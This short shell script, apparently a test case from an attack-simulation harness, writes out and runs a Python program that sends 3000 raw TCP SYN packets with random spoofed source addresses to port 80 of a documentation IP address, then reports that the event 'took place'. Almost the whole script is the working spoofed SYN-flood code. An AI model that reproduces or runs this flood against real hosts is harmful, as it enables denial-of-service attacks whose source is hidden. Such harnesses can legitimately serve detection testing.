#!/bin/sh
. /opt/case/case.sh

cat >/tmp/flood.py <<'END'
import os, random, socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
target = socket.inet_aton("203.0.113.10")
for i in range(3000):
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, i & 0xffff, 0, 64, 6, 0, os.urandom(4), target)
    s.sendto(head + struct.pack("!HHIIBBHHH", random.randrange(1024, 65535), 80, random.getrandbits(32), 0, 0x50, 2, 512, 0, 0), ("203.0.113.10", 0))
print("sent")
END
python3 /tmp/flood.py | grep -q sent
took_place
